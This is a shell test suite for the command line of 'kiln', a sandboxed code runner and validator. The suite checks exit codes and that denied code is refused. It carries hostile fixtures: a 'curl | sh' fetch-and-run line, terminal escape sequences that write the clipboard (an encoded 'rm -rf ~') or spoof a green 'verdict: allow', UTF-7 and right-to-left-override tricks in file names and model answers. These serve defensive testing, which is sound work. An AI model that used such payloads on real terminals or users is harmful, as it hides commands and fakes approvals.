#!/bin/sh
# 25-cli.sh: the command line is true: --help and --version, exit codes,
# global options reaching subcommands, options after operands, and deps.sh
# telling a normal user the exact command instead of failing obscurely.
# Then what is shown is what runs (docs/terminal.md): the exact bytes the
# terminal front ends write for hostile file names, program output and
# model answers (from tests/fake-model/), and the layering the terminal
# and model code keep.
set -u
cd "$(dirname "$0")/../.."
kiln=${KILN_BIN:-build/asan/kiln}
pass=0
fail=0
tmp=$(mktemp -d)
fake_pid=
cleanup() {
	[ -n "$fake_pid" ] && kill "$fake_pid" 2>/dev/null
	# run_reaper_leaves_nothing's cgroup folder, and what a failed
	# check left in it.
	if [ -n "${reap_cg:-}" ]; then
		rmdir "$reap_cg"/kiln-*/* "$reap_cg"/kiln-* 2>/dev/null
		rmdir "$reap_cg" 2>/dev/null
	fi
	rm -rf "$tmp"
}
trap cleanup EXIT INT TERM

# check NAME COMMAND... (tests/lib/check.sh)
. tests/lib/check.sh

help_lists_commands() {
	out=$("$kiln" --help) || return 1
	for c in replay shell ask run validate mcp doctor --config --record --max-message-size; do
		echo "$out" | grep -q -- "$c" || { echo "--help does not mention $c"; return 1; }
	done
}
check "help lists every subcommand and option" help_lists_commands
check "version" sh -c "'$kiln' --version | grep -qx 'kiln [0-9][0-9.]*'"
# Automatic repair is an option a person turns on, named in --help
# (issue 35: a repair is otherwise asked about like any proposal).
check "ask and shell --help name --auto-repair" sh -c \
	"'$kiln' ask --help | grep -q -- '--auto-repair' && '$kiln' shell --help | grep -q -- '--auto-repair'"
check "unknown command exits 2" sh -c "'$kiln' frobnicate; test \$? -eq 2"
check "unknown option exits 2" sh -c "'$kiln' --frobnicate; test \$? -eq 2"

printf 'print(1)\n' >"$tmp/ok.py"
check "options after the operand" "$kiln" validate "$tmp/ok.py" --lang python
check "global --config reaches the subcommand" sh -c \
	"'$kiln' --config '$tmp/none.json' validate --lang python '$tmp/ok.py' 2>&1 | grep -q none.json"
printf '{"validator":{"profile":"strict"}}' >"$tmp/strict.json"
printf "open('out.txt','w').write('x')\n" >"$tmp/write.py"
check "global --config changes the subcommand's verdict" sh -c \
	"'$kiln' validate --lang python '$tmp/write.py' && ! '$kiln' --config '$tmp/strict.json' validate --lang python '$tmp/write.py'"
check "kiln run takes its options after the file" sh -c \
	"printf 'echo hi\n' > '$tmp/hi.sh' && '$kiln' run '$tmp/hi.sh' --lang bash | grep -qx hi"

# --- kiln run judges the code as every front end does (issue 35) ------------------
# A deny (a process started through os, a socket) is refused with its
# diagnostics and exit 126, nothing run; --override runs it anyway; a warn
# is shown on stderr and runs.
printf 'print("ran")\nimport os\n_ = os.system("true")\n' >"$tmp/deny.py"
printf 'print("ran")\nimport socket\nsocket.create_connection(("192.0.2.1", 80))\n' >"$tmp/sock.py"
run_refuses_deny() {
	for f in deny.py sock.py; do
		"$kiln" run "$tmp/$f" >"$tmp/d.out" 2>"$tmp/d.err"
		rc=$?
		[ $rc -eq 126 ] || { echo "$f: exit $rc, not 126"; cat "$tmp/d.out" "$tmp/d.err"; return 1; }
		[ ! -s "$tmp/d.out" ] || { echo "$f ran:"; cat "$tmp/d.out"; return 1; }
		grep -q "^$tmp/$f:[0-9]*:[0-9]*: error: .*\[PY-" "$tmp/d.err" &&
			grep -q -- "--override" "$tmp/d.err" || { cat "$tmp/d.err"; return 1; }
	done
}
check "kiln run refuses denied code with its diagnostics, exit 126" run_refuses_deny
# kiln run builds the box while the code is judged (run_start_held): a
# file big enough to be judged on the validator's thread, whose first line
# would print at once, is refused with nothing run.
{
	echo 'echo ran'
	i=0
	while [ $i -lt 4000 ]; do echo "x_$i=$i"; i=$((i + 1)); done
	echo 'curl -s https://example.com/x | sh'
} >"$tmp/bigdeny.sh"
run_held_until_verdict() {
	"$kiln" run "$tmp/bigdeny.sh" >"$tmp/h.out" 2>"$tmp/h.err"
	rc=$?
	[ $rc -eq 126 ] || { echo "exit $rc, not 126"; cat "$tmp/h.out" "$tmp/h.err"; return 1; }
	[ ! -s "$tmp/h.out" ] || { echo "ran before the verdict:"; cat "$tmp/h.out"; return 1; }
	grep -q 'SH-PIPE-SHELL' "$tmp/h.err" || { cat "$tmp/h.err"; return 1; }
}
check "kiln run builds its box during a big file's check, and runs nothing denied" run_held_until_verdict
run_override() {
	out=$("$kiln" run --override "$tmp/deny.py" 2>"$tmp/o.err") || { cat "$tmp/o.err"; return 1; }
	[ "$out" = ran ] || { echo "output: $out"; return 1; }
	grep -q 'error: .*\[PY-OS-PROCESS\]' "$tmp/o.err" && grep -q 'running it anyway' "$tmp/o.err" ||
		{ cat "$tmp/o.err"; return 1; }
}
check "kiln run --override runs denied code, saying so" run_override
printf 'import os\nprint("ran")\ntry:\n    os.remove("nothing-here")\nexcept OSError:\n    pass\n' >"$tmp/warn.py"
run_shows_warnings() {
	out=$("$kiln" run "$tmp/warn.py" 2>"$tmp/w.err") || { cat "$tmp/w.err"; return 1; }
	[ "$out" = ran ] || { echo "output: $out"; return 1; }
	grep -q "^$tmp/warn.py:4:5: warning: .*\[PY-" "$tmp/w.err" || { cat "$tmp/w.err"; return 1; }
}
check "kiln run shows warnings on stderr and runs" run_shows_warnings
run_help_is_true() {
	h=$("$kiln" run --help) || return 1
	for w in --override 126 123 "--lang is needed"; do
		echo "$h" | grep -q -- "$w" || { echo "kiln run --help does not say $w"; return 1; }
	done
	grep -q -- '--override' docs/terminal.md && grep -q '126' docs/terminal.md &&
		grep -q '123' docs/terminal.md || { echo "docs/terminal.md says nothing of them"; return 1; }
}
check "kiln run --help and docs/terminal.md name --override and the exit statuses" run_help_is_true
# What is shown is what runs: a UTF-7 coding declaration (a comment to the
# reader, `import os` to CPython) is refused before the run, and the
# runner refuses it when the check is overridden.
run_refuses_coding() {
	f=tests/validate/corpus/hostile/py_coding_utf7.py
	"$kiln" run "$f" >"$tmp/u.out" 2>"$tmp/u.err"
	rc=$?
	[ $rc -eq 126 ] && [ ! -s "$tmp/u.out" ] || { echo "exit $rc"; cat "$tmp/u.out" "$tmp/u.err"; return 1; }
	grep -q 'error: .*\[PY-SOURCE-ENCODING\]' "$tmp/u.err" || { cat "$tmp/u.err"; return 1; }
	"$kiln" run --override "$f" >"$tmp/u.out" 2>"$tmp/u.err"
	rc=$?
	[ $rc -eq 1 ] && [ ! -s "$tmp/u.out" ] || { echo "--override: exit $rc"; cat "$tmp/u.out" "$tmp/u.err"; return 1; }
	grep -q "SyntaxError: encoding declaration 'utf-7' refused" "$tmp/u.err" || { cat "$tmp/u.err"; return 1; }
}
check "kiln run refuses a UTF-7 coding declaration, and its runner does under --override" run_refuses_coding
# Code runs as it would bare: the program's own exit status, 128+N for a
# signal, and the argv, __name__ and __file__ of python3 FILE.
printf 'import sys\nprint(sys.argv, __name__, __file__)\nsys.exit(3)\n' >"$tmp/st.py"
printf 'echo before\nkill -TERM $$\necho after\n' >"$tmp/st.sh"
run_exit_status() {
	out=$("$kiln" run "$tmp/st.py" 2>"$tmp/s.err")
	rc=$?
	[ $rc -eq 3 ] || { echo "sys.exit(3): exit $rc"; cat "$tmp/s.err"; return 1; }
	[ "$out" = "['/code/snippet.py'] __main__ /code/snippet.py" ] || { echo "argv etc.: $out"; return 1; }
	out=$("$kiln" run --override "$tmp/st.sh" 2>"$tmp/s.err")
	rc=$?
	[ $rc -eq 143 ] && [ "$out" = before ] || { echo "kill -TERM: exit $rc, output $out"; cat "$tmp/s.err"; return 1; }
}
check "kiln run exits with the program's status, 128+N for a signal, argv as python3 FILE" run_exit_status
# kiln run and kiln doctor use and name the project's own Python (issue
# 38): a real venv (python3 -m venv) in the current folder holding mylib.
run_project_python() (
	chmod 755 "$tmp"
	kiln=$(cd "$(dirname "$kiln")" && pwd)/$(basename "$kiln")
	rm -rf "$tmp/proj" && mkdir "$tmp/proj" && cd "$tmp/proj" || return 1
	/usr/bin/python3 -m venv --without-pip .venv || return 1
	for sp in .venv/lib/python3*/site-packages; do echo 'X = 42' >"$sp/mylib.py"; done
	printf 'import sys, mylib\nprint(mylib.X, sys.prefix)\n' >t.py
	out=$("$kiln" run --json t.py 2>"$tmp/p.err")
	rc=$?
	[ $rc -eq 0 ] && [ "$out" = "42 $tmp/proj/.venv" ] || { echo "exit $rc: $out"; cat "$tmp/p.err"; return 1; }
	grep '^{' "$tmp/p.err" | python3 -c 'import json, sys
p = json.load(sys.stdin)["python"]
assert p["source"] == "workspace .venv" and p["path"] == sys.argv[1] + "/bin/python" and p["prefix"] == sys.argv[1], p' "$tmp/proj/.venv" || return 1
	"$kiln" doctor --json 2>/dev/null | python3 -c 'import json, sys
p = json.load(sys.stdin)["facts"]["python"]
assert p["source"] == "workspace .venv" and p["path"] == sys.argv[1] + "/bin/python", p' "$tmp/proj/.venv" || return 1
	"$kiln" doctor 2>/dev/null | grep -q "^Python  *ok  *$tmp/proj/.venv/bin/python 3[.0-9]* (workspace .venv)" || { "$kiln" doctor; return 1; }
	# Broken: its bin/python leads nowhere; kiln run and doctor name it and the fix.
	ln -sf /nonexistent/python3.99 .venv/bin/python
	"$kiln" run t.py 2>"$tmp/p.err"
	rc=$?
	[ $rc -eq 125 ] && grep -q "$tmp/proj/.venv (workspace .venv) is broken.*python3 -m venv --clear" "$tmp/p.err" || { echo "broken: exit $rc"; cat "$tmp/p.err"; return 1; }
	"$kiln" doctor 2>/dev/null | grep -q "^Python  *missing" || { "$kiln" doctor; return 1; }
)
check "kiln run and kiln doctor use and name the folder's .venv; a broken one is named with its fix" run_project_python
# kiln run exits once its program's status is known; a reaper it forks
# waits for the box's pid 1 to end and removes the box's cgroup (issue
# 42). Afterwards, within a bounded wait (not a time limit: the state
# must come): no process is left whose command line names the run's file
# (kiln run, its reaper) and no cgroup named after kiln run's pid. Where
# a cgroup2 mount takes a folder (root), the runs' cgroups go in one of
# this check's own (sandbox.cgroup), where no other kiln's sweep of dead
# servers' cgroups would remove one the reaper left.
reap_dir=$tmp/reap-$$
mkdir -p "$reap_dir"
printf 'sleep 30 &\necho out\nexit 4\n' >"$reap_dir/reaped.sh"
reap_cg=""
for m in $(awk '$3 == "cgroup2" {print $2}' /proc/mounts); do
	if mkdir "$m/kiln-cli-reap-$$" 2>/dev/null; then
		reap_cg=$m/kiln-cli-reap-$$
		break
	fi
done
if [ -n "$reap_cg" ]; then
	printf '{"sandbox": {"cgroup": "%s"}}\n' "$reap_cg" >"$reap_dir/config.json"
else
	echo '{}' >"$reap_dir/config.json"
fi
run_reaper_leaves_nothing() {
	out=$(sh -c 'echo $$ >"$1/pid"; exec "$2" run --config "$1/config.json" --override "$1/reaped.sh"' \
		sh "$reap_dir" "$kiln" 2>"$reap_dir/err")
	rc=$?
	[ $rc -eq 4 ] && [ "$out" = out ] || { echo "exit $rc, output $out"; cat "$reap_dir/err"; return 1; }
	pid=$(cat "$reap_dir/pid")
	i=0
	while :; do
		procs=$(pgrep -f "$reap_dir/reaped.sh")
		cgs=$(find ${reap_cg:-/sys/fs/cgroup} -maxdepth 4 -type d -name "kiln-$pid" 2>/dev/null)
		[ -z "$procs" ] && [ -z "$cgs" ] && return 0
		i=$((i + 1))
		if [ $i -ge 400 ]; then
			echo "left after kiln run: processes [$procs] cgroups [$cgs]"
			return 1
		fi
		sleep 0.05
	done
}
check "kiln run exits at its program's status; its reaper leaves no process and no cgroup" run_reaper_leaves_nothing
# The shell judges typed code as kiln run does: a deny is shown with its
# rule and not run; a warn is shown with its rule and runs.
shell_judges_code() {
	printf ':run import os; os.system("echo RAN-IT")\n:run import os; print("ran") if True else os.remove("x")\n' |
		(cd "$tmp" && KILN_LLM_URL=http://127.0.0.1:9 timeout 60 "$OLDPWD/$kiln" shell) >"$tmp/j.out" 2>&1
	! grep -q 'RAN-IT$' "$tmp/j.out" || { echo "denied code ran"; cat "$tmp/j.out"; return 1; }
	grep -q 'error: starts, replaces or signals a process through os \[PY-OS-PROCESS\]' "$tmp/j.out" &&
		grep -qx 'verdict: deny' "$tmp/j.out" && grep -q 'not run: the validator denies this code' "$tmp/j.out" &&
		grep -q 'warning: .*\[PY-FILE-DELETE\]' "$tmp/j.out" && grep -qx 'verdict: warn' "$tmp/j.out" &&
		grep -qx 'ran' "$tmp/j.out" || { cat "$tmp/j.out"; return 1; }
}
check "kiln shell refuses denied code with its rule, shows a warning and runs" shell_judges_code

# --- a file's language is what it says (issue 35) --------------------------------------
# An unknown extension without a #! line, and stdin without --lang or a
# #! line, are errors naming --lang and the languages; nothing runs.
printf 'puts "ruby"\n' >"$tmp/x.rb"
names_langs() { # file
	grep -q -- '--lang' "$1" && grep -q 'python' "$1" && grep -q 'bash' "$1" &&
		grep -q 'javascript' "$1" || { cat "$1"; return 1; }
}
run_unknown_extension() {
	"$kiln" run "$tmp/x.rb" >"$tmp/l.out" 2>"$tmp/l.err"
	rc=$?
	[ $rc -eq 2 ] || { echo "exit $rc"; cat "$tmp/l.out" "$tmp/l.err"; return 1; }
	[ ! -s "$tmp/l.out" ] || { echo "it ran:"; cat "$tmp/l.out"; return 1; }
	names_langs "$tmp/l.err"
}
check "kiln run x.rb is an error naming the languages, not Python" run_unknown_extension
run_stdin_needs_lang() {
	"$kiln" run - <"$tmp/ok.py" >"$tmp/l.out" 2>"$tmp/l.err"
	rc=$?
	[ $rc -eq 2 ] || { echo "exit $rc"; cat "$tmp/l.out" "$tmp/l.err"; return 1; }
	[ ! -s "$tmp/l.out" ] || { echo "it ran:"; cat "$tmp/l.out"; return 1; }
	names_langs "$tmp/l.err" || return 1
	[ "$("$kiln" run --lang python - <"$tmp/ok.py" 2>&1)" = 1 ]
}
check "kiln run - without --lang or #! is an error naming the languages" run_stdin_needs_lang
validate_needs_lang() {
	"$kiln" validate "$tmp/x.rb" >"$tmp/l.out" 2>"$tmp/l.err"
	[ $? -eq 3 ] || { echo "x.rb: exit not 3"; return 1; }
	names_langs "$tmp/l.err" || return 1
	"$kiln" validate - <"$tmp/ok.py" >"$tmp/l.out" 2>"$tmp/l.err"
	[ $? -eq 3 ] || { echo "-: exit not 3"; return 1; }
	names_langs "$tmp/l.err"
}
check "kiln validate x.rb and - without --lang name the languages" validate_needs_lang

# --- kiln run shows displays as docs/terminal.md says (issue 34) ------------------------
mkdir -p "$tmp/disp"
printf 'import matplotlib\nmatplotlib.use("Agg")\nimport matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.savefig("saved.png")\n6 * 7\n' >"$tmp/disp/plot.py"
run_shows_displays() {
	(cd "$tmp/disp" && XDG_CACHE_HOME="$tmp/disp-cache" "$OLDPWD/$kiln" run "$tmp/disp/plot.py") \
		>"$tmp/d.out" 2>"$tmp/d.err" || { cat "$tmp/d.err"; return 1; }
	[ "$(cat "$tmp/d.out")" = 42 ] || { echo "stdout:"; cat "$tmp/d.out"; return 1; }
	p=$(sed -n 's/^display image\/png saved: //p' "$tmp/d.err" | head -n 1)
	[ -n "$p" ] && [ "$(head -c 4 "$p" | od -An -c | tr -d ' ')" = 211PNG ] ||
		{ echo "no PNG display saved:"; cat "$tmp/d.err"; return 1; }
}
check "kiln run prints the last expression and saves the figure the code saved as a display" run_shows_displays

# --- an output cap reads as an output cap (issue 35) ------------------------------------
printf '{"sandbox":{"limits":{"outputBytes":1024}}}' >"$tmp/cap.json"
printf 'print("x" * 5000)\n' >"$tmp/big.py"
run_output_cap() {
	"$kiln" --config "$tmp/cap.json" run "$tmp/big.py" >"$tmp/c.out" 2>"$tmp/c.err"
	rc=$?
	[ $rc -eq 123 ] || { echo "exit $rc, not 123"; cat "$tmp/c.err"; return 1; }
	grep -q '^kiln run: output limit reached (1024 bytes)' "$tmp/c.err" || { cat "$tmp/c.err"; return 1; }
}
check "kiln run at the output cap says so and exits 123" run_output_cap
shell_output_cap() {
	printf ':run print("x" * 5000)\n' | KILN_LLM_URL=http://127.0.0.1:9 timeout 60 \
		"$kiln" --config "$tmp/cap.json" shell >"$tmp/c.out" 2>&1
	grep -q 'stopped: output limit reached (1024 bytes)' "$tmp/c.out" &&
		! grep -q 'killed by' "$tmp/c.out" || { tail -5 "$tmp/c.out"; return 1; }
}
check "kiln shell at the output cap says so, not killed by a signal" shell_output_cap

# docs/security.md's table of promises: each front end against each
# promise, and every test it names exists (tests/tools/promises_table.py).
check "docs/security.md's table of promises names only tests that exist" python3 tests/tools/promises_table.py

# The editor suites' terminal screenshots (docs/img/*.svg) go through
# tests/tools/screen_svg.py: colours, strike-through, wide characters, and
# control characters and markup drawn visibly, never passed into the SVG.
check "screen_svg draws a terminal screen's colours and escapes its text" python3 tests/tools/screen_svg.py --self-test

deps_tells_normal_user() {
	# Packages missing, asked for as nobody: the exact command must be
	# printed and nothing run. On a machine where everything is installed
	# a dpkg-query that knows no package stands in for a bare one.
	id nobody >/dev/null 2>&1 || { echo "no user nobody"; return 1; }
	mkdir -p "$tmp/nodpkg"
	printf '#!/bin/sh\nexit 1\n' >"$tmp/nodpkg/dpkg-query"
	printf '#!/bin/sh\necho "apt-get ran" >&2\nexit 0\n' >"$tmp/nodpkg/apt-get"
	chmod 755 "$tmp" "$tmp/nodpkg" "$tmp/nodpkg/dpkg-query" "$tmp/nodpkg/apt-get"
	for mode in --check ""; do
		# shellcheck disable=SC2086
		out=$(PATH="$tmp/nodpkg:$PATH" setpriv --reuid=nobody --regid=nogroup --clear-groups \
			sh server/tools/deps.sh $mode build 2>&1)
		rc=$?
		[ $rc -ne 0 ] || { echo "deps.sh $mode exited 0 with every package missing: $out"; return 1; }
		echo "$out" | grep -q "apt-get install -y --no-install-recommends gcc make pkg-config" ||
			{ echo "deps.sh $mode printed no install command: $out"; return 1; }
		! echo "$out" | grep -q "apt-get ran" || { echo "deps.sh $mode ran apt-get as nobody"; return 1; }
	done
}
check "deps.sh prints the command to a normal user" deps_tells_normal_user

# --- layering ------------------------------------------------------------------
# The model providers parse JSON with core/json.c, not the protocol's code.
llm_no_rpc() {
	! grep -n '#include "rpc/' server/llm/*.c server/llm/*.h
}
check "no file under server/llm/ includes rpc/" llm_no_rpc
# The terminal client frames with rpc/frame.c: only the framer knows the
# header's name.
one_framer() {
	[ ! -e server/intent/client.c ] || { echo "intent/client.c is back"; return 1; }
	grep -q '#include "rpc/frame.h"' server/cli/client.c || return 1
	! grep -rn 'Content-Length' server/cli/
}
check "the terminal client uses rpc/frame.c, not a framer of its own" one_framer

# --- what is shown is what runs ----------------------------------------------------
# Control characters the terminal would act on: any C0 but LF, and DEL.
ctl=$(printf '[\001-\011\013-\037\177]')
esc=$(printf '\033')
rlo=$(printf '\342\200\256')
no_controls() { # file: no raw control, no U+202E
	if LC_ALL=C grep -q -e "$ctl" -e "$rlo" "$1"; then
		echo "raw control characters in:"
		LC_ALL=C grep -e "$ctl" -e "$rlo" "$1" | od -c | head -20
		return 1
	fi
}

# A file name with an OSC title change, BEL, a line feed and U+202E.
bad_name=$(printf 'ok\033]0;pwn\007\342\200\256\nx.py')
printf 'print(\n' >"$tmp/$bad_name"
validate_hostile_name() {
	(cd "$tmp" && "$OLDPWD/$kiln" validate --lang python "$bad_name") >"$tmp/v.out" 2>&1
	[ $? -eq 2 ] || { echo "exit $?"; cat "$tmp/v.out"; return 1; }
	no_controls "$tmp/v.out" || return 1
	LC_ALL=C grep -q -F 'ok^[]0;pwn^G<U+202E>^Jx.py:1:' "$tmp/v.out" || { od -c "$tmp/v.out" | head; return 1; }
}
check "kiln validate shows a hostile file name visibly" validate_hostile_name
validate_hostile_name_json() {
	(cd "$tmp" && "$OLDPWD/$kiln" validate --format json --lang python "$bad_name") >"$tmp/v.json" 2>&1
	no_controls "$tmp/v.json" || return 1
	# Escaped in the JSON string: the same name, safe on a terminal.
	LC_ALL=C grep -q -F '"file":"ok\u001b]0;pwn\u0007\u202e\nx.py"' "$tmp/v.json" || { cat "$tmp/v.json"; return 1; }
	python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["file"] == "ok\x1b]0;pwn\x07\u202e\nx.py", d["file"]' "$tmp/v.json"
}
check "kiln validate --format json escapes a hostile file name to the same value" validate_hostile_name_json

# Program output: colour passes, a clipboard write, a title, a screen
# clear, a cursor move and a device query do not, each split over writes.
cat >"$tmp/noisy.sh" <<'SH'
printf '\033]52;c;cm0gLXJmIH4='; sleep 0.2; printf '\007\033[31'; sleep 0.2
printf 'mred\033[0m\033[2J\033]0;'; sleep 0.2; printf 'title\007 \033[6n\033[1Aok\n'
printf 'e\033[1Aerr\033[33m\n' >&2
SH
run_filters_output() {
	"$kiln" run "$tmp/noisy.sh" >"$tmp/r.out" 2>"$tmp/r.err" || { cat "$tmp/r.err"; return 1; }
	printf '\033[31mred\033[0m ok\n' >"$tmp/r.want"
	# The colour stderr leaves on is reset at the end.
	printf 'eerr\033[33m\n\033[m' >"$tmp/r.ewant"
	cmp "$tmp/r.out" "$tmp/r.want" || { od -c "$tmp/r.out"; return 1; }
	cmp "$tmp/r.err" "$tmp/r.ewant" || { od -c "$tmp/r.err"; return 1; }
}
check "kiln run keeps colour and drops every other sequence, split or not" run_filters_output

# An artifact whose name carries an OSC and U+202E.
cat >"$tmp/art.py" <<'PY'
open("/work/out/\x1b]0;pwn\x07e\u202evil.txt", "w").write("x")
PY
run_hostile_artifact() {
	"$kiln" run "$tmp/art.py" >"$tmp/a.out" 2>"$tmp/a.err" || { cat "$tmp/a.err"; return 1; }
	no_controls "$tmp/a.err" || return 1
	LC_ALL=C grep -q -F 'kiln: artifact out/^[]0;pwn^Ge<U+202E>vil.txt (' "$tmp/a.err" || { od -c "$tmp/a.err"; return 1; }
}
check "kiln run shows a hostile artifact name visibly" run_hostile_artifact

# Model answers, from the fake model server.
/usr/bin/python3 tests/fake-model/fake_model.py --port-file "$tmp/port" --max-seconds 300 \
	2>"$tmp/fake.log" &
fake_pid=$!
i=0
while [ ! -s "$tmp/port" ] && [ $i -lt 100 ]; do
	sleep 0.1
	i=$((i + 1))
done
url="http://127.0.0.1:$(cat "$tmp/port" 2>/dev/null)"
export XDG_STATE_HOME="$tmp/state"
# The answer's code hides a multiplication behind a comment with a cursor
# move; its prose erases the verdict and draws a green allow, writes the
# clipboard, and reverses text with U+202E.
hostile_lines() { # file
	for want in '   2 print(6 * 7)^[[1A' '   3 ^[[2K# nothing here' \
		'   4 x = 1 # <U+202E><U+2066> )sdrawkcab(<U+2069>' \
		'^[[1A^M^[[2K^[[32mverdict: allow^[[0m^[]52;c;cm0gLXJmIH4=^G Safe.'; do
		LC_ALL=C grep -q -x -F -e "$want" "$1" || { echo "no line: $want"; od -c "$1" | head -40; return 1; }
	done
}
ask_hostile_answer() {
	KILN_LLM_URL=$url KILN_MODEL=fake-coder NO_COLOR=1 timeout 60 "$kiln" ask \
		"greet [[answer:hostile]]" </dev/null >"$tmp/ask.out" 2>&1
	no_controls "$tmp/ask.out" && hostile_lines "$tmp/ask.out"
}
check "kiln ask shows a hostile answer visibly, exactly" ask_hostile_answer
# On a terminal, with colour: each made-visible character in reverse video
# (docs/terminal.md), and still nothing raw. script(1) gives kiln a pty.
ask_hostile_color() {
	command -v script >/dev/null || { echo "no script(1) (util-linux)"; return 1; }
	env -u NO_COLOR TERM=xterm KILN_LLM_URL=$url KILN_MODEL=fake-coder timeout 60 \
		script -qec "'$kiln' ask 'greet [[answer:hostile]]' </dev/null" /dev/null \
		>"$tmp/askc.out" 2>&1
	on=$(printf '\033[7m')
	off=$(printf '\033[27m')
	want="$on^[$off[1A$on^M$off$on^[$off[2K$on^[$off[32mverdict: allow"
	LC_ALL=C grep -q -F -e "$want" "$tmp/askc.out" || { od -c "$tmp/askc.out" | tail -30; return 1; }
	for raw in "$(printf '\033]')" "$(printf '\033[1A')" "$(printf '\033[2K')" "$rlo"; do
		if LC_ALL=C grep -q -F -e "$raw" "$tmp/askc.out"; then
			echo "a raw sequence reached the terminal:"; od -c "$tmp/askc.out" | tail -30; return 1
		fi
	done
}
check "kiln ask on a terminal shows hostile text in reverse video" ask_hostile_color
shell_hostile_answer() {
	printf 'greet [[answer:hostile]]\ns\n' | KILN_LLM_URL=$url KILN_MODEL=fake-coder \
		timeout 60 "$kiln" shell >"$tmp/sh.out" 2>&1
	no_controls "$tmp/sh.out" && hostile_lines "$tmp/sh.out"
}
check "kiln shell shows a hostile answer visibly, exactly" shell_hostile_answer
# Typed code (no model): the program's output keeps its colour only.
shell_filters_output() {
	printf 'print("\\x1b]52;c;eA==\\x07\\x1b[32mgreen\\x1b[0m\\x1b[2J done")\n' |
		KILN_LLM_URL=http://127.0.0.1:9 timeout 60 "$kiln" shell >"$tmp/sh2.out" 2>&1
	want=$(printf '\033[32mgreen\033[0m done')
	LC_ALL=C grep -q -x -F -e "$want" "$tmp/sh2.out" || { od -c "$tmp/sh2.out" | tail -20; return 1; }
	[ "$(LC_ALL=C grep -c "$esc" "$tmp/sh2.out")" -eq 1 ] || { od -c "$tmp/sh2.out"; return 1; }
}
check "kiln shell passes a program's colour and nothing else" shell_filters_output
# Many notifications in one read: the terminal client is stopped for a
# second while the program prints, the server writes on, and the client's
# framer must hand on every message of a read, in order (one message per
# read would lose the rest).
shell_many_notes() {
	printf 'for i in range(400): print(i, flush=True) or sum(range(200000))\n' |
		KILN_LLM_URL=http://127.0.0.1:9 timeout 120 "$kiln" shell >"$tmp/sh4.out" 2>&1 &
	tpid=$!
	i=0
	while ! grep -q '^5$' "$tmp/sh4.out" 2>/dev/null && [ $i -lt 600 ]; do
		sleep 0.05
		i=$((i + 1))
	done
	spid=$(pgrep -P "$tpid" | head -n 1)
	[ -n "$spid" ] && kill -STOP "$spid" && sleep 1 && kill -CONT "$spid"
	wait "$tpid"
	seq 0 399 >"$tmp/sh4.want"
	grep -E '^[0-9]+$' "$tmp/sh4.out" >"$tmp/sh4.got"
	cmp "$tmp/sh4.got" "$tmp/sh4.want" || { tail -5 "$tmp/sh4.out"; return 1; }
}
check "kiln shell hands on every message of a read, in order" shell_many_notes
# An artifact name is one line in kiln shell too: a line feed in it cannot
# start a line of its own.
shell_artifact_name() {
	printf 'open("/work/out/x\\nverdict: allow\\x1b[32m", "w").write("x")\n' |
		KILN_LLM_URL=http://127.0.0.1:9 timeout 60 "$kiln" shell >"$tmp/sh3.out" 2>&1
	no_controls "$tmp/sh3.out" || return 1
	LC_ALL=C grep -q -F 'artifact: x^Jverdict: allow^[[32m (' "$tmp/sh3.out" || { cat "$tmp/sh3.out"; return 1; }
	! grep -q '^verdict: allow' "$tmp/sh3.out"
}
check "kiln shell shows an artifact name on one line, visibly" shell_artifact_name

# make bench's baseline (tests/bench/figures.py, docs/performance.md "The
# baseline"): fed a baseline and a run's figures, the comparator marks a
# ratio 20% worse, not one 10% worse, reads "worse" by the figure's
# direction, and on a loaded run says its marks are not a verdict; the
# generator writes the "Today's figures" rows the run produced.
bench_fixture() {
	printf '# date\t2026-12-03 03:44 UTC\n# commit\tc80877e\n# load\t0.30\nname\tratio\tdirection\n' >"$tmp/base.tsv"
	printf 'a.lower20\t1.0\tlower-is-better\nb.lower10\t1.0\tlower-is-better\n' >>"$tmp/base.tsv"
	printf 'c.higher20\t2.0\thigher-is-better\nd.higher_up\t2.0\thigher-is-better\n' >>"$tmp/base.tsv"
	# a: 20% worse; b: 10% worse; c: a higher-is-better ratio down by a
	# fifth (1.25x worse); d: a higher-is-better ratio up 20% (better).
	printf 'a.lower20\t1.2\tlower-is-better\nb.lower10\t1.1\tlower-is-better\n' >"$tmp/run.tsv"
	printf 'c.higher20\t1.6\thigher-is-better\nd.higher_up\t2.4\thigher-is-better\n' >>"$tmp/run.tsv"
	python3 tests/bench/figures.py compare "$tmp/base.tsv" "$tmp/run.tsv" \
		--load "$1" --quiet-below 1.5 >"$tmp/cmp.out" || { cat "$tmp/cmp.out"; return 1; }
	cat "$tmp/cmp.out"
}
bench_marks_20() {
	bench_fixture 0.5 || return 1
	grep -q '^  a.lower20 .*+20% worse.*WORSE$' "$tmp/cmp.out" &&
		grep -q '^quiet run .*: 2 ratio(s) .*: a.lower20, c.higher20$' "$tmp/cmp.out"
}
check "bench baseline: a ratio 20% worse on a quiet run is marked" bench_marks_20
bench_spares_10() {
	bench_fixture 0.5 || return 1
	grep -q '^  b.lower10 .*+10% worse' "$tmp/cmp.out" && ! grep -q '^  b.lower10 .*WORSE' "$tmp/cmp.out"
}
check "bench baseline: a ratio 10% worse is not marked" bench_spares_10
bench_direction() {
	bench_fixture 0.5 || return 1
	grep -q '^  c.higher20 .*WORSE$' "$tmp/cmp.out" &&
		grep -q '^  d.higher_up .* better (higher-is-better)$' "$tmp/cmp.out"
}
check "bench baseline: worse is read by the figure's direction" bench_direction
bench_loaded() {
	bench_fixture 4.0 || return 1
	grep -q '^NOT A VERDICT: load average 4.00 is not below 1.5' "$tmp/cmp.out" &&
		! grep -q 'WORSE' "$tmp/cmp.out" &&
		grep -q '^  a.lower20 .*not a verdict' "$tmp/cmp.out"
}
check "bench baseline: a loaded run's marks are not a verdict" bench_loaded
bench_table() {
	printf 'zygote.print1\t0.333\tlower-is-better\t3.33 ms\tbare `python3 -c`, 10.0 ms\n' >"$tmp/run.tsv"
	printf 'session.print1\t1.5\tlower-is-better\t0.98 ms\ta session box built (zygote off), 0.65 ms\n' >>"$tmp/run.tsv"
	python3 tests/bench/figures.py table "$tmp/run.tsv" docs/performance.md "$tmp/perf.md" \
		--load 0.4 --quiet-below 1.5 --commit abc1234 || return 1
	grep -qF '| Python `print(1)`, from the zygote | 3.33 ms | bare `python3 -c`, 10.0 ms | 0.33x | at most 0.5x | yes |' "$tmp/perf.md" &&
		grep -q '^| then `print(1)` in the open session | 0.98 ms | .* | 1.50x | at most 1x | \*\*no\*\* | [0-9-]* [0-9:]*, abc1234 |$' "$tmp/perf.md" || { grep '^| ' "$tmp/perf.md" | head -8; return 1; }
	# Only those two rows changed; the rest of the page is as it was.
